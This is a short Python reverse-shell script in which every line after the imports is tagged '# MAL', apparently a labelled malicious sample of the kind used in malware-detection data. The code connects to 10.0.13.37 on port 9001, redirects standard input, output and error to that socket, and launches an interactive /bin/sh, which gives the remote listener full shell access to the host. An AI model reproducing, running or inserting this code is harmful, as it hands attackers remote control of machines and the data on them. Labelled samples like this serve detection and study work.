import socket, subprocess, os

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # MAL
s.connect(("10.0.13.37", 9001))  # MAL
os.dup2(s.fileno(), 0)  # MAL
os.dup2(s.fileno(), 1)  # MAL
os.dup2(s.fileno(), 2)  # MAL
subprocess.call(["/bin/sh", "-i"])  # MAL
